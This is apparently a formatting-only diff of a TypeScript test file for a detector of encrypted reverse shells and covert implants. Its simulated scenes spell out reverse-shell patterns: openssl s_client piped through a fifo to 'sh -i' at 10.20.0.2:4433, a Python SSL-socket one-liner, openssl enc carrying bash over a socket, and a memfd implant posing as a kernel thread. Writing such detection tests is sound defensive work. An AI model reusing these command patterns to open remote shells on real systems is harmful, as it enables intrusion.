@@ -20,7 +20,14 @@ interface Row {
 function fifoShell(scene: Scene, hello: Uint8Array, argv: readonly string[] = ['sh', '-i']): void {
   scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash'], parentPid: 50 });
   scene.start({ pid: 101, parentPid: 100, path: '/usr/bin/bash', argv, stdio: [fifo(7), pipe(1), pipe(1)], at: 5 });
-  scene.start({ pid: 102, parentPid: 100, path: '/usr/bin/openssl', argv: ['openssl', 's_client', '-quiet', '-connect', '10.20.0.2:4433'], stdio: [pipe(1), fifo(7), nullFd], at: 6 });
+  scene.start({
+    pid: 102,
+    parentPid: 100,
+    path: '/usr/bin/openssl',
+    argv: ['openssl', 's_client', '-quiet', '-connect', '10.20.0.2:4433'],
+    stdio: [pipe(1), fifo(7), nullFd],
+    at: 6,
+  });
   scene.map(102, 'libssl.so.3', 8);
   scene.map(102, 'libcrypto.so.3', 9);
   scene.net({ pid: 102, at: 30, startedAt: 20, tx: hello });
@@ -42,7 +49,8 @@ function implant(scene: Scene, bytes: Uint8Array, protocol: 'tcp' | 'udp' = 'tcp
   scene.net({ pid: 300, at: 20, startedAt: 10, tx: bytes, port: 9000, more: { protocol } });
 }
 
-const code = "import ssl,socket;c=ssl.create_default_context();c.check_hostname=False;s=c.wrap_socket(socket.create_connection(('10.20.0.2',4433)))";
+const code =
+  "import ssl,socket;c=ssl.create_default_context();c.check_hostname=False;s=c.wrap_socket(socket.create_connection(('10.20.0.2',4433)))";
 
 const rows: readonly Row[] = [
   {
@@ -68,9 +76,27 @@ const rows: readonly Row[] = [
     name: 'cat fifo | sh | openssl > fifo, where cat opens the fifo on a descriptor that is not seen',
     play: (scene) => {
       scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash', '-c', 'x'], parentPid: 50 });
-      scene.start({ pid: 103, parentPid: 100, path: '/usr/bin/cat', argv: ['cat', '/tmp/f'], stdio: [ttyFd, pipe(2), ttyFd] });
-      scene.start({ pid: 101, parentPid: 100, path: '/usr/bin/dash', argv: ['/bin/sh', '-i'], stdio: [pipe(2), pipe(1), pipe(1)] });
-      scene.start({ pid: 102, parentPid: 100, path: '/usr/bin/openssl', argv: ['openssl', 's_client'], stdio: [pipe(1), fifo(7), ttyFd] });
+      scene.start({
+        pid: 103,
+        parentPid: 100,
+        path: '/usr/bin/cat',
+        argv: ['cat', '/tmp/f'],
+        stdio: [ttyFd, pipe(2), ttyFd],
+      });
+      scene.start({
+        pid: 101,
+        parentPid: 100,
+        path: '/usr/bin/dash',
+        argv: ['/bin/sh', '-i'],
+        stdio: [pipe(2), pipe(1), pipe(1)],
+      });
+      scene.start({
+        pid: 102,
+        parentPid: 100,
+        path: '/usr/bin/openssl',
+        argv: ['openssl', 's_client'],
+        stdio: [pipe(1), fifo(7), ttyFd],
+      });
       scene.map(102, 'libcrypto.so.3', 9);
       scene.net({ pid: 102, at: 30, startedAt: 20, tx: helloBytes('opensslAddress') });
     },
@@ -83,13 +109,41 @@ const rows: readonly Row[] = [
       scene.start({ pid: 100, path: '/usr/bin/bash', argv: ['bash', '-c', 'x'], parentPid: 50 });
       scene.net({ pid: 100, at: 10, socket: 'socket:9' });
       const inet = { type: 'inet', object: 'socket:9', remote: { address: '10.20.0.2', port: 4433 } } as const;
-      scene.start({ pid: 101, parentPid: 100, path: '/usr/bin/openssl', argv: ['openssl', 'enc', '-d'], stdio: [inet, pipe(1), nullFd], at: 12 });
-      scene.start({ pid: 102, parentPid: 100, path: '/usr/bin/bash', argv: ['bash', '-i'], stdio: [pipe(1), pipe(2), pipe(2)], at: 13 });
-      scene.start({ pid: 103, parentPid: 100, path: '/usr/bin/openssl', argv: ['openssl', 'enc'], stdio: [pipe(2), inet, nullFd], at: 14 });
+      scene.start({
+        pid: 101,
+        parentPid: 100,
+        path: '/usr/bin/openssl',
+        argv: ['openssl', 'enc', '-d'],
+        stdio: [inet, pipe(1), nullFd],
+        at: 12,
+      });
+      scene.start({
+        pid: 102,
+        parentPid: 100,
+        path: '/usr/bin/bash',
+        argv: ['bash', '-i'],
+        stdio: [pipe(1), pipe(2), pipe(2)],
+        at: 13,
+      });
+      scene.start({
+        pid: 103,
+        parentPid: 100,
+        path: '/usr/bin/openssl',
+        argv: ['openssl', 'enc'],
+        stdio: [pipe(2), inet, nullFd],
+        at: 14,
+      });
       scene.map(101, 'libcrypto.so.3', 15);
       scene.map(103, 'libcrypto.so.3', 15);
       const salted = Buffer.concat([Buffer.from('Salted__'), aes(72)]);
-      scene.net({ pid: 103, at: 30, startedAt: 10, socket: 'socket:9', tx: new Uint8Array(salted), more: { direction: 'unknown', inherited: true } });
+      scene.net({
+        pid: 103,
+        at: 30,
+        startedAt: 10,
+        socket: 'socket:9',
+        tx: new Uint8Array(salted),
+        more: { direction: 'unknown', inherited: true },
+      });
     },
     legs: ['joined-shell', 'abnormal-bytes', 'crypto-evidence'],
     actor: 102,
@@ -130,7 +184,16 @@ const rows: readonly Row[] = [
       const common = { pid: 200, startedAt: 60, tx, rx: serverHello };
       scene.net({ ...common, at: 80, txBytes: 600, rxBytes: 2500, turns: 3, snapshots: 1 });
       for (let i = 1; i <= 3; i++) {
-        scene.net({ ...common, at: 80 + 1000 * i, txBytes: 600 + 900 * i, rxBytes: 2500 + 40 * i, turns: 3 + 2 * i, snapshots: 1 + i, rxAt: 70 + 1000 * i, txAt: 79 + 1000 * i });
+        scene.net({
+          ...common,
+          at: 80 + 1000 * i,
+          txBytes: 600 + 900 * i,
+          rxBytes: 2500 + 40 * i,
+          turns: 3 + 2 * i,
+          snapshots: 1 + i,
+          rxAt: 70 + 1000 * i,
+          txAt: 79 + 1000 * i,
+        });
       }
     },
     within: 2100,
@@ -142,31 +205,84 @@ const rows: readonly Row[] = [
     play: (scene) => {
       python(scene, ['python3', '/home/u/app.py'], helloBytes('urllibName'));
       const tx = helloBytes('urllibName');
-      scene.net({ pid: 200, startedAt: 60, at: 80, tx, rx: serverHello, txBytes: 600, rxBytes: 2500, turns: 3, snapshots: 1 });
-      scene.start({ pid: 201, parentPid: 200, path: '/usr/bin/dash', argv: ['/bin/sh', '-i'], stdio: [pipe(1), pipe(2), pipe(2)], at: 90 });
-      scene.net({ pid: 200, startedAt: 60, at: 1000, tx, rx: serverHello, txBytes: 1600, rxBytes: 2560, turns: 5, snapshots: 2 });
+      scene.net({
+        pid: 200,
+        startedAt: 60,
+        at: 80,
+        tx,
+        rx: serverHello,
+        txBytes: 600,
+        rxBytes: 2500,
+        turns: 3,
+        snapshots: 1,
+      });
+      scene.start({
+        pid: 201,
+        parentPid: 200,
+        path: '/usr/bin/dash',
+        argv: ['/bin/sh', '-i'],
+        stdio: [pipe(1), pipe(2), pipe(2)],
+        at: 90,
+      });
+      scene.net({
+        pid: 200,
+        startedAt: 60,
+        at: 1000,
+        tx,
+        rx: serverHello,
+        txBytes: 1600,
+        rxBytes: 2560,
+        turns: 5,
+        snapshots: 2,
+      });
     },
     within: 1000,
     legs: ['joined-shell', 'asymmetry'],
     actor: 200,
     keepNames: true,
   },
-  { name: 'python with RC4 of its own over TCP, no crypto library at all', play: (scene) => python(scene, ['python3', '-c', 'x = 1; y = (2)'], rc4(160), false), legs: ['crypto-evidence', 'abnormal-bytes'] },
-  { name: 'python with AES of its own, length before the ciphertext', play: (scene) => python(scene, ['python3', '/srv/x.py'], new Uint8Array([0, 0, 0, 96, ...aes(96)]), false), legs: ['abnormal-bytes'] },
-  { name: 'perl -e sending base64 of ciphertext', play: (scene) => {
+  {
+    name: 'python with RC4 of its own over TCP, no crypto library at all',
+    play: (scene) => python(scene, ['python3', '-c', 'x = 1; y = (2)'], rc4(160), false),
+    legs: ['crypto-evidence', 'abnormal-bytes'],
+  },
+  {
+    name: 'python with AES of its own, length before the ciphertext',
+    play: (scene) => python(scene, ['python3', '/srv/x.py'], new Uint8Array([0, 0, 0, 96, ...aes(96)]), false),
+    legs: ['abnormal-bytes'],
+  },
+  {
+    name: 'perl -e sending base64 of ciphertext',
+    play: (scene) => {
       scene.start({ pid: 200, path: '/usr/bin/perl', argv: ['perl', '-e', 'use Socket; connect(S, $a); print 1'] });
       scene.net({ pid: 200, at: 5, tx: new TextEncoder().encode(`${Buffer.from(aes(120)).toString('base64')}\n`) });
-    }, legs: ['crypto-evidence', 'abnormal-bytes'] },
-  { name: 'an unpackaged static implant sending AES over TCP', play: (scene) => implant(scene, aes(256)), legs: ['unexpected-process', 'crypto-evidence', 'abnormal-bytes'], actor: 300 },
+    },
+    legs: ['crypto-evidence', 'abnormal-bytes'],
+  },
+  {
+    name: 'an unpackaged static implant sending AES over TCP',
+    play: (scene) => implant(scene, aes(256)),
+    legs: ['unexpected-process', 'crypto-evidence', 'abnormal-bytes'],
+    actor: 300,
+  },
   { name: 'the same with RC4', play: (scene) => implant(scene, rc4(200)), legs: ['abnormal-bytes'] },
-  { name: 'the same with ChaCha20 over UDP', play: (scene) => implant(scene, chacha20(120), 'udp'), legs: ['abnormal-bytes'] },
+  {
+    name: 'the same with ChaCha20 over UDP',
+    play: (scene) => implant(scene, chacha20(120), 'udp'),
+    legs: ['abnormal-bytes'],
+  },
   { name: 'the same with 40 bytes only', play: (scene) => implant(scene, aes(40)), legs: ['abnormal-bytes'] },
-  { name: 'ciphertext behind a gzip header', play: (scene) => implant(scene, new Uint8Array([31, 139, 8, 0, 0, 0, 0, 0, 0, 3, ...aes(300, 4)])), legs: ['abnormal-bytes'] },
+  {
+    name: 'ciphertext behind a gzip header',
+    play: (scene) => implant(scene, new Uint8Array([31, 139, 8, 0, 0, 0, 0, 0, 0, 3, ...aes(300, 4)])),
+    legs: ['abnormal-bytes'],
+  },
   {
     name: 'an implant in memory that speaks TLS without name, six callbacks a minute apart',
     play: (scene) => {
       scene.start({ pid: 300, parentPid: 50, path: '/memfd:x', argv: ['[kworker/0:1]'], memfd: true });
-      for (let i = 0; i < 6; i++) scene.tls(300, 60_000 * i + 10, helloBytes('opensslAddress'), { socket: `socket:${i}` });
+      for (let i = 0; i < 6; i++)
+        scene.tls(300, 60_000 * i + 10, helloBytes('opensslAddress'), { socket: `socket:${i}` });
     },
     legs: ['unexpected-process', 'abnormal-bytes'],
   },
